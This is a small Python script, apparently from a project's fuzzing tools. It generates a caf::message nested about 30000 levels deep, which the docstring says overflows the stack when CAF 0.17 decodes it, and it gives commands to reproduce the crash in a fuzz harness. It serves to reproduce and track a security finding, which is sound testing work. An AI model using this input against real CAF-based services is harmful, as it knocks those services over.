#!/usr/bin/env python3
"""Writes a fuzz-messages input: a caf::message nested DEPTH times (each
level "@<>+@message", 15 bytes), the innermost a string. CAF 0.17 decodes it
recursively with no depth limit: about 30000 levels (450 KB) overflow an
8 MiB stack in an -O2 build (docs/security.md, "Findings in CAF").

    tools/fuzzing/known/nested_message.py 30000 > /tmp/nested
    build-fuzz/bin/fuzz-messages /tmp/nested     # stack-overflow
"""
import sys


def message(type_names, body):
    t = type_names.encode()
    return b"\x00\x00" + bytes([len(t)]) + t + body


def nested(depth):
    body = message("@<>+@str", b"\x01x")
    parts = []
    for _ in range(depth):
        parts.append(message("@<>+@message", b""))
    return b"".join(parts) + body


if __name__ == "__main__":
    depth = int(sys.argv[1]) if len(sys.argv) > 1 else 30000
    # First byte 0xff: fuzz-messages decodes a whole caf::message.
    sys.stdout.buffer.write(b"\xff" + nested(depth))
